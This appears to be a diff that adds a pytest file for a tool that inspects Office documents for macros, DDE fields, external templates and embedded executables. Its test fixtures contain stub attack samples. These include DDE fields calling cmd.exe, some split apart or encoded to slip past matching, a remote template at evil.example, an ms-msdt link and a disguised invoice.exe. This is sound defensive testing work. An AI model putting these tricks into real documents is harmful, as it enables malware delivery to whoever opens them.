@@ -1,0 +1,169 @@
+"""Office Open XML: what is active, embedded or fetched from outside, by part name, type, relationship and content."""
+
+from __future__ import annotations
+
+import pytest
+from tests.inspection.content.building import (
+    CONTENT_TYPES,
+    OFFICE,
+    RELATIONSHIPS,
+    WORD,
+    compound,
+    kinds,
+    look,
+    ole10native,
+    vba_project,
+    word,
+    zipped,
+)
+
+from zoneguard.model.flows import Certainty
+
+
+def relationship(kind: str, target: str, external: bool = True) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return RELATIONSHIPS.format(f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>')
+
+
+def run(text: str) -> str:
+    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"
+
+
+def char(kind: str) -> str:
+    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+
+def test_plain_document_is_inspected() -> None:
+    seen = look(word(body="<w:p><w:r><w:t>本文 DDEAUTO</w:t></w:r></w:p>"), "a.docx")
+    assert seen.media_type.endswith("wordprocessingml.document")
+    assert seen.hazards == ()
+    assert seen.certainty is Certainty.INSPECTED
+
+
+def test_macros_with_their_modules() -> None:
+    seen = look(word({"word/vbaProject.bin": compound(vba_project())}), "a.docm")
+    (hazard,) = seen.hazards
+    assert (hazard.kind, hazard.where) == ("vba-macro", "word/vbaProject.bin!VBA")
+    assert "runs by itself: AutoOpen" in hazard.detail
+    assert seen.media_type == "application/vnd.ms-word.document.macroEnabled.12"
+
+
+def test_macros_by_name_alone() -> None:
+    seen = look(word({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)}), "a.docm")
+    assert [(h.kind, h.where) for h in seen.hazards] == [("vba-macro", "word/vbaProject.bin")]
+
+
+def test_macros_under_another_name() -> None:
+    override = '<Override PartName="/word/picture.jpg" ContentType="application/vnd.ms-office.vbaProject"/>'
+    assert "vba-macro" in kinds(look(word({"word/picture.jpg": b"x"}, types=override), "a.docm"))
+    assert kinds(look(word({"word/picture.jpg": compound(vba_project())}), "a.docm"))[0] == "vba-macro"
+
+
+@pytest.mark.parametrize(
+    ("part", "kind"),
+    [
+        ("xl/macrosheets/sheet1.xml", "xlm-macro"),
+        ("xl/macrosheets/sheet1.bin", "xlm-macro"),
+        ("word/activeX/activeX1.xml", "activex"),
+        ("xl/connections.xml", "external-connection"),
+        ("word/webextensions/webextension1.xml", "add-in"),
+    ],
+)
+def test_parts_that_are_hazards_by_their_place(part: str, kind: str) -> None:
+    seen = look(zipped({"[Content_Types].xml": CONTENT_TYPES.format(""), part: "<x/>"}), "a.xlsm")
+    assert [(h.kind, h.where) for h in seen.hazards] == [(kind, part)]
+
+
+def test_template_and_other_parts_from_outside() -> None:
+    seen = look(
+        word({"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.example/t.dotm")}), "a.docx"
+    )
+    assert [(h.kind, h.detail) for h in seen.hazards] == [("external-template", "http://evil.example/t.dotm")]
+    seen = look(
+        word({"word/_rels/document.xml.rels": relationship("oleObject", "http://evil.example/x.html!")}), "a.docx"
+    )
+    assert kinds(seen) == ["external-relationship"]
+
+
+def test_hyperlinks_are_no_hazard_unless_they_run_something() -> None:
+    assert (
+        kinds(
+            look(word({"word/_rels/document.xml.rels": relationship("hyperlink", "https://www.example.jp/")}), "a.docx")
+        )
+        == []
+    )
+    seen = look(
+        word({"word/_rels/document.xml.rels": relationship("hyperlink", "ms-msdt:/id PCWDiagnostic")}), "a.docx"
+    )
+    assert kinds(seen) == ["external-relationship"]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>',
+        char("begin") + run(" DDE") + run("AUTO cmd ") + char("separate") + char("end"),
+        char("begin") + run("D") + run("D") + run("E cmd") + char("end"),
+        char("begin") + char("begin") + run(" QUOTE 68 68 69 65 85 84 79 ") + char("end") + run(" cmd") + char("end"),
+    ],
+)
+def test_dde_fields_however_they_are_cut(body: str) -> None:
+    assert kinds(look(word(body=f"<w:p>{body}</w:p>"), "a.docx")) == ["dde"]
+
+
+def test_dde_in_a_utf_16_part() -> None:
+    part = f'<?xml version="1.0" encoding="utf-16"?><w:ftr {WORD}><w:fldSimple w:instr="DDE cmd"/></w:ftr>'.encode(
+        "utf-16"
+    )
+    assert kinds(look(word({"word/footer1.xml": part}), "a.docx")) == ["dde"]
+
+
+def test_excel_dde_link() -> None:
+    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    seen = look(
+        zipped({"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/externalLinks/externalLink1.xml": link}), "a.xlsx"
+    )
+    assert [(h.kind, h.detail) for h in seen.hazards] == [("dde", "DDE cmd|/c calc")]
+
+
+def test_embedded_package_is_opened() -> None:
+    program = b"MZ\x90\0" + bytes(300)
+    inner = compound({"\x01Ole10Native": ole10native(b"invoice.exe", program)})
+    seen = look(word({"word/embeddings/oleObject1.bin": inner}), "a.docx")
+    assert kinds(seen) == ["embedded-object", "executable"]
+    assert [h.where for h in seen.hazards if h.kind == "executable"] == ["word/embeddings/oleObject1.bin!invoice.exe"]
+
+
+def test_embedded_document_with_macros_is_opened() -> None:
+    inner = zipped({"[Content_Types].xml": CONTENT_TYPES.format(""), "xl/vbaProject.bin": compound(vba_project())})
+    seen = look(word({"word/embeddings/Sheet1.xlsm": inner}), "a.docx")
+    assert kinds(seen) == ["embedded-object", "vba-macro"]
+
+
+def test_alternative_format_chunk_is_opened() -> None:
+    extra = {
+        "word/_rels/document.xml.rels": relationship("aFChunk", "chunk.html", external=False),
+        "word/chunk.html": "<script>x</script>",
+    }
+    assert kinds(look(word(extra), "a.docx")) == ["embedded-object", "active-html"]
+
+
+def test_printer_settings_and_fonts_do_not_make_it_uncertain() -> None:
+    seen = look(
+        word({"word/printerSettings/printerSettings1.bin": bytes(100), "word/fonts/font1.odttf": bytes(100)}), "a.docx"
+    )
+    assert (seen.hazards, seen.certainty) == ((), Certainty.INSPECTED)
+
+
+def test_part_with_entities_or_errors_is_partial() -> None:
+    laughs = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w:p>&b;<w:instrText/></w:p>'
+    for part in (laughs, "<w:p><w:instrText>"):
+        seen = look(word({"word/header1.xml": part}), "a.docx")
+        assert seen.certainty is Certainty.PARTIAL
+
+
+def test_cut_document_says_what_it_found_and_is_partial() -> None:
+    whole = word({"word/vbaProject.bin": compound(vba_project()), "word/z.xml": "x" * 3000})
+    seen = look(whole[: whole.rindex(b"PK\x01\x02") - 300], "a.docm", whole=False)
+    assert "vba-macro" in kinds(seen)
+    assert seen.certainty is Certainty.PARTIAL
